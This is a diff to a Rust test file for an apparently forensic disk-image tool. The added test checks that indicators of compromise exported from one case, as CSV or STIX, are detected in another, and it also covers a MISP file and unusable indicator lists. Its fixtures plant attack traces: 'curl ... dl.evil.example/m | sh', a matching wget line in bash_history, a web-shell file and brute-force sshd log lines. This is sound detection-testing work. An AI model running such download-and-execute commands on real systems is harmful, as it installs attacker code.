@@ -1,4 +1,4 @@
-//! What others know of files: lists of digests, made by the programs that make such lists.
+//! What others know: lists of digests, made by the programs that make such lists, and indicators of another case.
 
 use kanshiki_testkit::{Need, Ran, kanshiki_path, need, run, tempdir, tool, write_file};
 use serde_json::Value;
@@ -127,6 +127,65 @@ fn a_large_list_is_converted_once_and_its_index_can_be_shared() {
     assert_eq!(std::fs::read_dir(place.join("third/lists")).unwrap().count(), 1);
 }
 
+/// A line of sshd.
+fn sshd(second: u32, message: &str) -> String {
+    format!("2025-03-12T03:00:{second:02}+00:00 quay sshd[77]: {message}\n")
+}
+
+#[test]
+fn indicators_of_one_case_are_found_in_another() {
+    if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
+        return;
+    }
+    let first = tempdir();
+    let first = first.path();
+    let root = first.join("root");
+    put(&root, "var/www/html/up.php", SHELL);
+    put(&root, "opt/get", "#!/bin/sh\ncurl -s http://dl.evil.example/m | sh\n");
+    let mut log: String =
+        (0..40).map(|it| sshd(it, "Failed password for root from 203.0.113.77 port 4 ssh2")).collect();
+    log.push_str(&sshd(50, "Accepted password for root from 203.0.113.77 port 4 ssh2"));
+    put(&root, "var/log/auth.log", log);
+    image(first);
+    assert_eq!(found(first, "case", &[], "content.web-shell").len(), 1);
+
+    let second = tempdir();
+    let second = second.path();
+    let root = second.join("root");
+    put(&root, "srv/pages/a.php", SHELL);
+    put(&root, "root/.bash_history", "wget http://dl.evil.example/m -O /tmp/m\n");
+    put(&root, "var/log/auth.log", sshd(1, "Accepted publickey for anna from 203.0.113.77 port 9 ssh2: RSA SHA256:x"));
+    image(second);
+    for (form, name) in [("csv", "iocs.csv"), ("stix", "iocs.json")] {
+        let written = kanshiki(&["iocs", "--case", "case", "--format", form], first).exits(0).stdout;
+        write_file(&second.join(name), written);
+        let told = found(second, form, &["--indicators", name], "lists");
+        let titles: Vec<&str> = told.iter().map(|row| row["title"].as_str().unwrap()).collect();
+        for part in ["ipv4 203.0.113.77", "file of the indicators", "url dl.evil.example/m"] {
+            assert!(titles.iter().any(|title| title.contains(part)), "{form}: {part} in {titles:#?}");
+        }
+        let address = told.iter().find(|row| row["title"].as_str().unwrap().contains("ipv4")).unwrap();
+        assert_eq!(
+            (&address["first"], &address["last"]),
+            (&"2025-03-12T03:00:01Z".into(), &"2025-03-12T03:00:01Z".into())
+        );
+        let file = told.iter().find(|row| row["title"].as_str().unwrap().contains("/srv/pages/a.php")).unwrap();
+        assert_eq!((&file["rule"], &file["severity"]), (&"lists.indicator-file".into(), &"high".into()));
+        let out = format!("out-{form}");
+        let _: Ran = kanshiki(&["suspects", "disk.img", "--case", form, "--out", &out], second).exits(0);
+        assert!(second.join(&out).join("files/srv/pages/a.php").exists());
+    }
+    // What is not looked for is told, and that ends with 3.
+    write_file(
+        &second.join("misp.json"),
+        r#"{"Event": {"Attribute": [
+        {"type": "ip-src", "value": "203.0.113.77", "to_ids": true}, {"type": "regkey", "value": "HKLM", "to_ids": true}]}}"#,
+    );
+    let examined = kanshiki(&["examine", "disk.img", "--case", "misp", "--indicators", "misp.json"], second);
+    assert_eq!(examined.code, 3, "{}", examined.stderr);
+    assert!(examined.stderr.contains("regkey") && examined.stderr.contains("not looked for"), "{}", examined.stderr);
+}
+
 #[test]
 fn a_list_that_cannot_be_used_is_told_before_the_work() {
     if !need(&[Need::Tool("mkfs.ext4"), Need::Root]) {
@@ -152,6 +211,14 @@ fn a_list_that_cannot_be_used_is_told_before_the_work() {
                 refused.stderr
             );
         }
+    }
+    write_file(&place.join("json"), "{\"a\": 1}");
+    for (list, why) in
+        [("absent", "cannot read"), ("empty", "no indicator"), ("json", "neither a bundle"), (".", "not a regular")]
+    {
+        let refused = kanshiki(&["examine", "disk.img", "--case", "case", "--indicators", list], place);
+        assert_eq!(refused.code, 4, "{}", refused.stderr);
+        assert!(refused.stderr.contains(why) && refused.stderr.contains(&format!("`{list}`")), "{}", refused.stderr);
     }
     assert!(!place.join("case").exists());
 }
